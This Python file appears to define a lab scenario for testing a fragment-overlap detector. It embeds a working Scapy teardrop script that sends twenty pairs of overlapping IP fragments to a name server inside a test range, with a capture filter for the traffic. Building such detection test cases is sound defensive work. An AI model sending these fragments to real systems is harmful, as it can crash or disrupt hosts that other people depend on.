"""Teardrop: a second fragment that lies within the first."""

from lab.range import Range
from lab.scenario import Scenario

TEARDROP = """
import sys, time
target = sys.argv[1]
for number in range(20):
    header = bytes(UDP(sport=5000, dport=53, len=36))[:8]
    first = IP(dst=target, id=242 + number, flags="MF", proto=17) / Raw(header + b"A" * 28)
    second = IP(dst=target, id=242 + number, frag=3, proto=17) / Raw(b"BBBB")
    send(first); send(second); time.sleep(0.05)
"""


def run(net: Range) -> None:
    attacker, names = net.inside("attacker"), net.names()
    net.everyday()
    with net.attack(
        "fragment-overlap",
        by=attacker,
        victims=[names],
        frames=f"ip dst host {names.ip} and ip[6:2] & 0x3fff != 0",
    ):
        net.scapy(attacker, TEARDROP, names.ip)
    net.quiet(3)


SCENARIO = Scenario(
    name="fragment-overlap-teardrop",
    about="Twenty pairs of teardrop fragments to a name server that others ask meanwhile.",
    detectors=("fragment-overlap",),
    tools={"scapy": "python3-scapy"},
    run=run,
)
